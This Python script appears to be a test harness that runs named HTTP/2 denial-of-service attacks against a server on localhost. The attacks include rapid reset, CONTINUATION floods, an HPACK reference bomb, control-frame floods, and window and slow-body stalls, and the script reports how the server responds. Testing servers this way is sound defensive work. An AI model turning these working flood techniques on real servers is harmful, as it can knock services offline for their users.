"""HTTP/2 clients that abuse the protocol, each by a name of ATTACKS, frames built by hand.

argv[1]: {"port", "attack", "count", "seconds": how long to listen at most, "path"}.
Prints {"sent": frames of the attack that left, "seconds" until the connection ended or null,
"goaway": error code or null, "resets": {stream: code}, "statuses": {stream: status},
"ended": streams answered to their end, "settings": {id: value}, "acks": PINGs and SETTINGS
acknowledged, "window": what the connection may send at first}.
"""
import json
import select
import socket
import ssl
import sys
import time

from h2raw import field, frame, status

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


class Client:
    def __init__(self, job, initial_window=None):
        self.job = job
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", job["port"]), timeout=30)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = context.wrap_socket(plain, server_hostname="localhost")
        self.began = time.time()
        self.buffer = b""
        self.out = {"sent": 0, "seconds": None, "goaway": None, "resets": {}, "statuses": {},
                    "ended": [], "settings": {}, "acks": 0, "window": 65535}
        window = b"" if initial_window is None else b"\x00\x04" + initial_window.to_bytes(4, "big")
        self.tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, window))
        self.listen(lambda: self.out["settings"], 30)
        self.send(frame(SETTINGS, ACK, 0, b""))

    def fields(self, method="GET", path=None):
        path = path or self.job.get("path", "/")
        authority = f"localhost:{self.job['port']}"
        return (field(":method", method) + field(":scheme", "https")
                + field(":authority", authority) + field(":path", path))

    def get(self, stream, path=None, extra=b"", end=True):
        flags = END_HEADERS | (END_STREAM if end else 0)
        method = "GET" if end else "POST"
        return frame(HEADERS, flags, stream, self.fields(method, path) + extra)

    def send(self, data):
        """Sends what the server still takes; False once the connection is gone."""
        try:
            self.tls.sendall(data)
            return True
        except OSError:
            if self.out["seconds"] is None:
                self.out["seconds"] = time.time() - self.began
            return False

    def flood(self, frames):
        """Sends the frames in blocks, listening in between as a quick client would."""
        block, held = b"", 0
        for one in frames:
            block, held = block + one, held + 1
            if len(block) >= 16384:
                if not self.send(block):
                    return
                self.out["sent"] += held
                block, held = b"", 0
                self.listen(lambda: False, 0)
                if self.out["seconds"] is not None:
                    return
        if self.send(block):
            self.out["sent"] += held

    def is_decided(self):
        """Whether the first request has a response or has been reset."""
        return self.out["statuses"] or self.out["resets"]

    def listen(self, until, seconds):
        end = time.time() + seconds
        while not until() and self.out["seconds"] is None:
            left = end - time.time()
            if not self.tls.pending():
                ready = select.select([self.tls], [], [], max(left, 0))[0]
                if not ready:
                    return
            try:
                data = self.tls.recv(65536)
            except OSError:
                data = b""
            if not data:
                self.out["seconds"] = time.time() - self.began
                return
            self.buffer += data
            self.frames()

    def frames(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big")
            payload = self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]
            self.take(kind, flags, stream, payload)

    def take(self, kind, flags, stream, payload):
        out = self.out
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                name = int.from_bytes(payload[at : at + 2], "big")
                out["settings"][name] = int.from_bytes(payload[at + 2 : at + 6], "big")
        elif kind in (SETTINGS, PING):
            out["acks"] += 1
        elif kind == WINDOW and stream == 0:
            out["window"] += int.from_bytes(payload, "big")
        elif kind == HEADERS and stream not in out["statuses"]:
            out["statuses"][stream] = status(payload)
        elif kind == RST:
            out["resets"][stream] = int.from_bytes(payload, "big")
        elif kind == GOAWAY and int.from_bytes(payload[4:8], "big"):
            out["goaway"] = int.from_bytes(payload[4:8], "big")
        if kind in (HEADERS, DATA) and flags & END_STREAM:
            out["ended"].append(stream)


def streams(count, first=1):
    return range(first, first + 2 * count, 2)


def rapid_reset(client, count):
    client.flood(client.get(s) + frame(RST, 0, s, (8).to_bytes(4, "big")) for s in streams(count))


def cancel_running(client, count):
    """Each request is under way when it is cancelled."""
    for s in streams(count):
        acks = client.out["acks"]
        if not client.send(client.get(s) + frame(PING, 0, 0, bytes(8))):
            return
        client.listen(lambda: client.out["acks"] > acks, 30)
        if not client.send(frame(RST, 0, s, (8).to_bytes(4, "big"))):
            return
        client.out["sent"] += 1


def made_you_reset(client, count):
    """A WINDOW_UPDATE of 0 makes the server reset the stream while it works on the request."""
    client.flood(client.get(s) + frame(WINDOW, 0, s, bytes(4)) for s in streams(count))


def continuation(client, count):
    head = frame(HEADERS, 0, 1, client.fields())
    rest = (frame(CONTINUATION, 0, 1, field(f"x-{n % 10000}", "a" * 50)) for n in range(count))
    client.flood(one for frames in ([head], rest) for one in frames)


def empty_continuation(client, count):
    client.send(frame(HEADERS, 0, 1, client.fields()))
    client.flood(frame(CONTINUATION, 0, 1, b"") for _ in range(count))


def ping(client, count):
    client.flood(frame(PING, 0, 0, n.to_bytes(8, "big")) for n in range(count))


def settings(client, count):
    client.flood(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") for _ in range(count))


def empty_data(client, count):
    client.send(client.get(1, end=False))
    client.flood(frame(DATA, 0, 1, b"") for _ in range(count))


def priority(client, count):
    client.flood(frame(PRIORITY, 0, s, b"\x00\x00\x00\x00\x10") for s in streams(count))


def window_update(client, count):
    client.flood(frame(WINDOW, 0, 0, (1).to_bytes(4, "big")) for _ in range(count))


def bomb(client, count):
    """One long field in the table, then thousands of one-byte references to it, on each stream."""
    entry = b"\x40\x03x-a" + b"\x7f\xa1\x1e" + b"a" * 4000  # 127 + 0x21 + 0x1e * 128 = 4000
    references = b"\xbe" * 12000
    client.send(client.get(1, extra=entry))
    client.flood(client.get(s, extra=references) for s in streams(count, 3))


def crumbs(client, count):
    client.send(client.get(1, extra=field("cookie", "a") * count))
    client.listen(client.is_decided, 30)


def header(client, count):
    client.send(client.get(1, extra=field("x-a", "a" * count)))
    client.listen(client.is_decided, 30)


def header_in_many(client, count):
    """A head of `count` bytes in a legal row of CONTINUATIONs."""
    block = client.fields() + b"".join(field(f"x-{n}", "a" * 1000) for n in range(count // 1000))
    parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    for n, part in enumerate(parts):
        last = END_HEADERS if n == len(parts) - 1 else 0
        kind, flags = (HEADERS, END_STREAM | last) if n == 0 else (CONTINUATION, last)
        client.send(frame(kind, flags, 1, part))
    client.listen(client.is_decided, 30)


def half_head(client, count):
    """An answered request first, so that the next head is not the connection's first."""
    client.send(client.get(1, path="/"))
    client.listen(lambda: client.out["ended"], 30)
    client.began = time.time()
    client.send(frame(HEADERS, 0, 3, client.fields()))


def many_streams(client, count):
    client.flood(client.get(s) for s in streams(count))
    done = lambda: len({*client.out["ended"], *client.out["resets"]}) >= count
    client.listen(done, 30)


def sockets(client, count):
    """Extended CONNECTs that stay open, and when all are answered a GET."""
    authority = f"localhost:{client.job['port']}"
    ask = (field(":method", "CONNECT") + field(":protocol", "websocket")
           + field(":scheme", "https") + field(":authority", authority) + field(":path", "/ws"))
    client.flood(frame(HEADERS, END_HEADERS, s, ask) for s in streams(count))
    client.listen(lambda: len(client.out["statuses"]) == count, 30)
    last = 2 * count + 1
    client.send(client.get(last))
    client.listen(lambda: last in client.out["ended"], 30)


def zero_window(client, count):
    client.flood(client.get(s) for s in streams(count))


def thaw(client, count):
    """A window of 0 for `count` seconds, then one for all of a response."""
    client.send(client.get(1))
    client.listen(lambda: client.out["resets"], count)
    client.send(frame(WINDOW, 0, 1, (1 << 20).to_bytes(4, "big")))
    client.listen(lambda: client.out["ended"], 30)


def busy_stall(client, count):
    """One stream that never gets a window beside others that are answered all the time."""
    client.send(client.get(1))
    stream, end = 3, time.time() + count
    while time.time() < end and client.out["seconds"] is None and 1 not in client.out["resets"]:
        client.send(client.get(stream, path="/small"))
        client.listen(lambda: stream in client.out["ended"], 30)
        client.listen(lambda: False, 2)
        stream += 2
    client.out["stalled"] = time.time() - client.began


def slow_body(client, count):
    client.send(client.get(1, extra=field("content-length", "1000"), end=False))
    end = time.time() + count
    while time.time() < end and client.out["seconds"] is None and not client.out["statuses"]:
        client.send(frame(DATA, 0, 1, b"a"))
        client.listen(lambda: client.out["statuses"] or client.out["resets"], 1)
        if client.out["resets"]:
            break
    client.out["stalled"] = time.time() - client.began


def after_answer(client, count):
    """The frames `then`, in hexadecimal, on a POST of `count` bytes that has its answer."""
    length = field("content-length", str(count)) if count else b""
    client.send(client.get(1, extra=length, end=False))
    client.listen(lambda: client.out["ended"], 30)
    client.send(bytes.fromhex(client.job["then"]))
    client.listen(lambda: client.out["resets"] or client.out["goaway"], client.job["seconds"] or 5)


def frames(client, count):
    """The frames `then`, in hexadecimal, after `times` those of `many`, until `count` streams have
    ended."""
    out = client.out
    client.send(bytes.fromhex(client.job.get("many", "")) * client.job.get("times", 1))
    client.send(bytes.fromhex(client.job["then"]))
    client.listen(lambda: len({*out["ended"], *out["resets"]}) >= count or out["goaway"], 30)


def idle(client, count):
    client.send(client.get(1))
    client.listen(lambda: client.out["ended"], 30)
    client.began = time.time()


ATTACKS = {f.__name__: f for f in (
    rapid_reset, cancel_running, made_you_reset, continuation, empty_continuation, ping, settings,
    empty_data, priority, window_update, bomb, crumbs, header, header_in_many, half_head, many_streams, sockets,
    zero_window, thaw, busy_stall, slow_body, after_answer, frames, idle,
)}
WINDOWS = {"zero_window": 0, "thaw": 0, "busy_stall": 100, "bomb": 0}


def main():
    job = json.loads(sys.argv[1])
    name = job["attack"]
    client = Client(job, WINDOWS.get(name))
    ATTACKS[name](client, job.get("count", 0))
    client.listen(lambda: False, job.get("seconds", 2))
    print(json.dumps(client.out))


main()
